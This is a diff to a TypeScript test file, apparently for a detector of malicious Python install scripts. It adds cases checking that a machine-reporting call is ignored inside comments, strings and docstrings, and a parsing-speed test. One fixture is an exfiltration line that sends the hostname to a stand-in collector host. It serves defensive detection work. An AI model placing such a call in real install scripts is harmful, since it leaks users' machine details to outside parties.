@@ -4,6 +4,8 @@ import { test } from 'node:test'
 import { testOnFacts } from '../../../../test/file/detector-table.ts'
 import { fileFacts } from '../../../../test/file/empty-facts.ts'
 import type { FileFacts } from '../../facts.ts'
+import { codeAlone } from '../../formats/script/python/code-alone.ts'
+import { statementsOf } from '../../formats/script/python/statements.ts'
 import { readScript } from '../../formats/script/read.ts'
 import { packageRunsFetchedCode } from '../installer/package-runs-fetched-code.ts'
 import { scriptReportsItsMachine } from './credentials/script-reports-its-machine.ts'
@@ -89,6 +91,18 @@ test('a script that installs its package and reports who does so, or starts what
   ]
   assert.ok(detect(...started) !== null, 'starts')
   assert.equal(detect('print(socket.gethostname())', 'setup(name="x")'), null)
+  const reports = 'requests.get("https://collect.example/?h=" + socket.gethostname())'
+  assert.equal(detect(reports, '# as in setup(name="x")'), null, 'in a comment')
+  assert.equal(detect(reports, 'print("call setup(name) in your own script")'), null, 'in a text')
+  assert.equal(detect(reports, '"""', 'setup(name="x")', '"""'), null, 'in a docstring')
+  assert.ok(detect(reports, "note = 'it\\'s # no comment'; setup(name=\"x\")") !== null, 'behind a text')
+})
+
+test('statements are parted, and texts and comments left out, in linear time, ended or not', () => {
+  const begun = performance.now()
+  for (const text of [`"${'\\"'.repeat(60_000)}`, '"""\\'.repeat(40_000), `"""${"'''".repeat(40_000)}`])
+    assert.ok(codeAlone(text).length < text.length && statementsOf(text).length > 0)
+  assert.ok(performance.now() - begun < 2000)
 })
 
 test('a fetched file is followed to what starts it, across functions; another file that is started is not it', () => {
